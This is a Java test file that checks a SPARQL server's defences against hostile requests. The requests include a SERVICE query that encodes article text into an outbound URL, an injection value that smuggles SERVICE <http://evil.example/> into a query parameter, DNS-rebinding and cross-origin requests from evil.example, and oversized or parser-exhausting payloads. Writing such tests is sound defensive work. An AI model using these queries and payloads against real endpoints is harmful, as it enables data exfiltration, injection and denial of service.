package org.claimtrace;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.claimtrace.serve.ClaimtraceServer;
import org.claimtrace.serve.RequestGuards;
import org.claimtrace.store.GraphStore;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacks of issue 18 against a real server on 127.0.0.1 over the seed store: a query that
 * sends article text out with SERVICE, DNS rebinding (another Host), cross-site pages reading and
 * writing, bodies too large to read and queries too large to parse in the time-out.
 */
class HostileRequestsTest {
    static final String EVIL = "http://evil.example";
    static ClaimtraceServer server;
    static int port;

    @BeforeAll
    static void start() {
        server = ClaimtraceServer.builder().port(0).timeoutSeconds(30).build(SeedStore.store().dataset()).start();
        port = server.port();
    }

    @AfterAll
    static void stop() {
        if (server != null) server.stop();
    }

    /** Another server over the seed store, with these guards. */
    static ClaimtraceServer seedServer(RequestGuards guards, long timeoutSeconds) {
        return ClaimtraceServer.builder().port(0).timeoutSeconds(timeoutSeconds).guards(guards).build(SeedStore.store().dataset()).start();
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    static RawHttp.Answer post(int port, String path, String host, String origin, String contentType, String body) throws Exception {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        String head = "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: " + contentType + "\r\nContent-Length: "
                + bytes.length + "\r\nConnection: close" + (origin == null ? "" : "\r\nOrigin: " + origin);
        return RawHttp.send(port, head, bytes.length, bytes);
    }

    static RawHttp.Answer get(int port, String path, String host, String origin) throws Exception {
        return RawHttp.send(port, "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close"
                + (origin == null ? "" : "\r\nOrigin: " + origin));
    }

    /** The issue's query: one article's text, cut and encoded into the address SERVICE calls. */
    static String exfiltration(int listenerPort) {
        return "PREFIX nif: <http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#> SELECT * WHERE { "
                + "{ SELECT ?t WHERE { GRAPH ?g { ?a nif:isString ?t } } LIMIT 1 } "
                + "BIND(IRI(CONCAT(\"http://127.0.0.1:" + listenerPort + "/x?d=\", ENCODE_FOR_URI(SUBSTR(?t, 1, 60)))) AS ?u) "
                + "SERVICE ?u { ?s ?p ?o } }";
    }

    @Test
    void aServiceQueryIsRefusedAndCallsNothingUnlessServiceIsAllowed() throws Exception {
        try (RecordingEndpoint l = new RecordingEndpoint("{\"head\":{\"vars\":[\"s\",\"p\",\"o\"]},\"results\":{\"bindings\":[]}}")) {
            List<String> calls = l.received;
            String q = exfiltration(l.port());
            RawHttp.Answer refused = post(port, "/ds/sparql", "127.0.0.1:" + port, null, "application/x-www-form-urlencoded", "query=" + enc(q));
            assertEquals(403, refused.status(), refused.body());
            assertTrue(refused.body().contains("SERVICE is off") && refused.body().contains("--allow-service"), refused.body());
            assertEquals(List.of(), calls, "the server called out");
            // The same query inside FILTER EXISTS, where it would run per row.
            String inExists = "SELECT * WHERE { GRAPH ?g { ?a ?p ?o } FILTER EXISTS { SERVICE <http://127.0.0.1:"
                    + l.port() + "/y> { ?s ?p ?o } } } LIMIT 1";
            RawHttp.Answer refused2 = post(port, "/ds/query", "127.0.0.1:" + port, null, "application/sparql-query", inExists);
            assertEquals(403, refused2.status(), refused2.body());
            assertEquals(List.of(), calls, "the server called out");

            // With --allow-service the same query does call out, with the article's text in the address.
            ClaimtraceServer open = seedServer(new RequestGuards(true, List.of(), Set.of(), RequestGuards.MAX_BODY_READ_ONLY), 30);
            try {
                RawHttp.Answer allowed = post(open.port(), "/ds/sparql", "127.0.0.1:" + open.port(), null,
                        "application/x-www-form-urlencoded", "query=" + enc(q));
                assertEquals(200, allowed.status(), allowed.body());
                assertEquals(1, calls.size(), calls.toString());
                assertTrue(calls.get(0).startsWith("/x?d=") && calls.get(0).length() > 20, calls.toString());
            } finally {
                open.stop();
            }
        }
    }

    @Test
    void anotherHostNameIsRefusedAndTheServersOwnNamesAreNot() throws Exception {
        RawHttp.Answer rebound = get(port, "/queries/claims", "evil.example:" + port, null);
        assertEquals(403, rebound.status(), rebound.body());
        assertTrue(rebound.body().contains("Host 'evil.example:" + port + "' is not a name of this server")
                && rebound.body().contains("--allow-host evil.example"), rebound.body());
        for (String own : List.of("127.0.0.1:" + port, "localhost:" + port, "LOCALHOST", "[::1]:" + port)) {
            assertEquals(200, get(port, "/queries", own, null).status(), own);
        }
        ClaimtraceServer named = seedServer(new RequestGuards(false, List.of("claims.lan"), Set.of(), RequestGuards.MAX_BODY_READ_ONLY), 30);
        try {
            assertEquals(200, get(named.port(), "/queries", "claims.lan:" + named.port(), null).status());
            assertEquals(403, get(named.port(), "/queries", "other.lan", null).status());
        } finally {
            named.stop();
        }
    }

    @Test
    void aCrossOriginUpdateIsRefusedAndTheSameUpdateFromNoOriginRuns(@TempDir Path tmp) throws Exception {
        try (GraphStore gs = GraphStore.open(tmp.resolve("db"))) {
            ClaimtraceServer rw = ClaimtraceServer.builder().port(0).allowUpdate(true).build(gs.dataset()).start();
            try {
                int p = rw.port();
                String form = "update=" + enc("INSERT DATA { GRAPH <urn:x:g> { <urn:x:a> <urn:x:b> 1 } }");
                RawHttp.Answer csrf = post(p, "/ds/update", "127.0.0.1:" + p, EVIL, "application/x-www-form-urlencoded", form);
                assertEquals(403, csrf.status(), csrf.body());
                assertTrue(csrf.body().contains("cross-origin POST from " + EVIL + " refused"), csrf.body());
                RawHttp.Answer gsp = post(p, "/ds/data?graph=urn:x:h", "127.0.0.1:" + p, EVIL, "text/turtle", "<urn:x:a> <urn:x:b> 2 .");
                assertEquals(403, gsp.status(), gsp.body());
                RawHttp.Answer viaDataset = post(p, "/ds", "127.0.0.1:" + p, "null", "application/x-www-form-urlencoded", form);
                assertEquals(403, viaDataset.status(), viaDataset.body());
                assertEquals(0, gs.size(), "nothing written");

                RawHttp.Answer own = post(p, "/ds/update", "127.0.0.1:" + p, "http://127.0.0.1:" + p, "application/x-www-form-urlencoded", form);
                assertTrue(own.status() == 200 || own.status() == 204, own.status() + " " + own.body());
                assertEquals(1, gs.size());
            } finally {
                rw.stop();
            }
        }
    }

    @Test
    void crossOriginReadsNeedCorsAndGetItsHeaders() throws Exception {
        RawHttp.Answer refused = get(port, "/queries/claims?format=csv", "127.0.0.1:" + port, EVIL);
        assertEquals(403, refused.status(), refused.body());
        assertTrue(refused.body().contains("--cors " + EVIL), refused.body());
        String app = "https://app.example";
        ClaimtraceServer cors = seedServer(new RequestGuards(false, List.of(), Set.of(app), RequestGuards.MAX_BODY_READ_ONLY), 30);
        try {
            int p = cors.port();
            RawHttp.Answer read = get(p, "/queries/claims?format=csv", "127.0.0.1:" + p, app);
            assertEquals(200, read.status(), read.body());
            assertEquals(app, read.header("Access-Control-Allow-Origin"), read.headers());
            RawHttp.Answer query = post(p, "/ds/sparql", "127.0.0.1:" + p, app, "application/x-www-form-urlencoded",
                    "query=" + enc("ASK {}"));
            assertEquals(200, query.status(), query.body());
            RawHttp.Answer preflight = RawHttp.send(p, "OPTIONS /ds/sparql HTTP/1.1\r\nHost: 127.0.0.1:" + p + "\r\nOrigin: " + app
                    + "\r\nAccess-Control-Request-Method: POST\r\nAccess-Control-Request-Headers: content-type\r\nConnection: close");
            assertEquals(200, preflight.status(), preflight.headers());
            assertTrue(preflight.header("Access-Control-Allow-Methods").contains("POST"), preflight.headers());
            assertEquals(403, get(p, "/queries/claims", "127.0.0.1:" + p, EVIL).status());
            assertNull(get(p, "/queries", "127.0.0.1:" + p, null).header("Access-Control-Allow-Origin"));
        } finally {
            cors.stop();
        }
    }

    @Test
    void aFiftyMegabyteBodyIsRefusedWith413InUnderASecond() throws Exception {
        byte[] filler = "query=SELECT+*+WHERE+%7B%7D+".repeat(4096).getBytes(StandardCharsets.US_ASCII);
        long size = 50L << 20;
        RawHttp.Answer big = RawHttp.send(port, "POST /ds/sparql HTTP/1.1\r\nHost: 127.0.0.1:" + port
                + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " + size, size, filler);
        assertEquals(413, big.status(), big.body());
        assertTrue(big.body().contains("too large"), big.body());
        assertTrue(big.seconds() < 1.0, "answered after " + big.seconds() + " s");
        // Without a Content-Length the cap holds as the body is read.
        RawHttp.Answer chunked = RawHttp.send(port, "POST /ds/sparql HTTP/1.1\r\nHost: 127.0.0.1:" + port
                + "\r\nContent-Type: application/sparql-query\r\nTransfer-Encoding: chunked", 3L << 20, chunkedFiller());
        assertEquals(413, chunked.status(), chunked.body());
    }

    private static byte[] chunkedFiller() {
        byte[] data = "x".repeat(8192).getBytes(StandardCharsets.US_ASCII);
        byte[] head = (Integer.toHexString(data.length) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        byte[] out = new byte[head.length + data.length + 2];
        System.arraycopy(head, 0, out, 0, head.length);
        System.arraycopy(data, 0, out, head.length, data.length);
        out[out.length - 2] = '\r';
        out[out.length - 1] = '\n';
        return out;
    }

    @Test
    void aQueryTooLargeToParseInTheTimeoutIsStoppedAtTheTimeout() throws Exception {
        ClaimtraceServer quick = seedServer(new RequestGuards(false, List.of(), Set.of(), 16L << 20), 1);
        try {
            // A 6 MB string literal: Jena's parser needs tens of seconds for it (its time grows with the square of a token's length).
            String q = "SELECT * WHERE { ?s ?p \"" + "x".repeat(6 << 20) + "\" }";
            RawHttp.Answer r = post(quick.port(), "/ds/sparql", "127.0.0.1:" + quick.port(), null, "application/sparql-query", q);
            assertEquals(503, r.status(), r.body());
            assertTrue(r.body().contains("while being parsed"), r.body());
            assertTrue(r.seconds() < 6, "stopped after " + r.seconds() + " s");
        } finally {
            quick.stop();
        }
    }

    @Test
    void aQueryNestedTooDeeplyForTheParserIsABadRequest() throws Exception {
        String q = "SELECT * WHERE { FILTER(" + "(".repeat(200_000) + "1" + ")".repeat(200_000) + ") }";
        RawHttp.Answer r = post(port, "/ds/sparql", "127.0.0.1:" + port, null, "application/sparql-query", q);
        assertEquals(400, r.status(), r.body());
        assertTrue(r.seconds() < 10, "answered after " + r.seconds() + " s");
    }

    /**
     * The guards stand in front of the linked data (/id/... answered 303, /doc/... the document) and
     * of a stored query's text (what the explorer opens in YASGUI), as in front of SPARQL.
     */
    @Test
    void theLinkedDataAndAStoredQuerysTextAreGuardedToo() throws Exception {
        String own = "127.0.0.1:" + port;
        String id = "/id/event/attack-moscow";
        String doc = "/doc/event/attack-moscow";
        RawHttp.Answer seeOther = get(port, id, own, null);
        assertEquals(303, seeOther.status(), seeOther.headers());
        assertTrue(seeOther.header("Content-Security-Policy") != null, seeOther.headers());
        RawHttp.Answer page = get(port, doc, own, null);
        assertEquals(200, page.status(), page.body());
        assertTrue(page.header("Content-Security-Policy").contains("default-src 'none'"), page.headers());
        RawHttp.Answer queryText = RawHttp.send(port, "GET /queries/claims?event=" + enc("https://claimtrace.org/id/event/attack-moscow")
                + " HTTP/1.1\r\nHost: " + own + "\r\nAccept: application/sparql-query\r\nConnection: close");
        assertEquals(200, queryText.status(), queryText.body());
        assertTrue(queryText.body().contains("<https://claimtrace.org/id/event/attack-moscow>"), queryText.body());

        for (String path : List.of(id, doc, "/queries/claims", "/config", "/graph?entity=" + enc("https://claimtrace.org/id/event/attack-moscow"))) {
            RawHttp.Answer rebound = get(port, path, "evil.example:" + port, null);
            assertEquals(403, rebound.status(), path + ": " + rebound.body());
            assertTrue(rebound.body().contains("--allow-host evil.example"), path + ": " + rebound.body());
            RawHttp.Answer crossSite = get(port, path, own, EVIL);
            assertEquals(403, crossSite.status(), path + ": " + crossSite.body());
            assertTrue(crossSite.body().contains("--cors " + EVIL), path + ": " + crossSite.body());
        }
        RawHttp.Answer textCrossSite = RawHttp.send(port, "GET /queries/claims HTTP/1.1\r\nHost: " + own
                + "\r\nAccept: application/sparql-query\r\nOrigin: " + EVIL + "\r\nConnection: close");
        assertEquals(403, textCrossSite.status(), textCrossSite.body());

        // A parameter cannot smuggle SERVICE (or anything else) into the text: it is bound as an RDF term, and an IRI
        // holding what no IRI holds is refused.
        String breakOut = "http://x/> } SERVICE <http://evil.example/> { ?s ?p ?o } #";
        RawHttp.Answer asString = RawHttp.send(port, "GET /queries/claims?event=" + enc(breakOut)
                + " HTTP/1.1\r\nHost: " + own + "\r\nAccept: application/sparql-query\r\nConnection: close");
        assertEquals(200, asString.status(), asString.body());
        org.apache.jena.query.Query bound = org.apache.jena.query.QueryFactory.create(asString.body());
        assertTrue(!org.apache.jena.sparql.algebra.Algebra.compile(bound).toString().contains("(service"), asString.body());
        RawHttp.Answer asIri = RawHttp.send(port, "GET /queries/claims?event=" + enc("<" + breakOut + ">")
                + " HTTP/1.1\r\nHost: " + own + "\r\nAccept: application/sparql-query\r\nConnection: close");
        assertEquals(400, asIri.status(), asIri.body());
        assertTrue(asIri.body().contains("is not an IRI"), asIri.body());

        // With --cors the linked data is readable from that site, and gets the CORS answer.
        String app = "https://app.example";
        ClaimtraceServer cors = seedServer(new RequestGuards(false, List.of(), Set.of(app), RequestGuards.MAX_BODY_READ_ONLY), 30);
        try {
            RawHttp.Answer read = get(cors.port(), doc + "?format=ttl", "127.0.0.1:" + cors.port(), app);
            assertEquals(200, read.status(), read.body());
            assertEquals(app, read.header("Access-Control-Allow-Origin"), read.headers());
        } finally {
            cors.stop();
        }

        // A body is capped wherever it is sent.
        long size = 50L << 20;
        for (String path : List.of(doc, "/queries/claims")) {
            RawHttp.Answer big = RawHttp.send(port, "POST " + path + " HTTP/1.1\r\nHost: " + own
                    + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " + size, size, "x=".repeat(4096).getBytes(StandardCharsets.US_ASCII));
            assertEquals(413, big.status(), path + ": " + big.body());
        }
    }

    @Test
    void everyAnswerCarriesAStrictContentSecurityPolicy() throws Exception {
        for (String path : List.of("/", "/explorer/app.js", "/queries")) {
            RawHttp.Answer r = get(port, path, "127.0.0.1:" + port, null);
            assertEquals(200, r.status(), path);
            String csp = r.header("Content-Security-Policy");
            assertTrue(csp != null && csp.contains("default-src 'none'") && csp.contains("script-src 'self'")
                    && !csp.contains("unsafe-inline"), path + ": " + csp);
            assertEquals("nosniff", r.header("X-Content-Type-Options"), path);
        }
    }
}
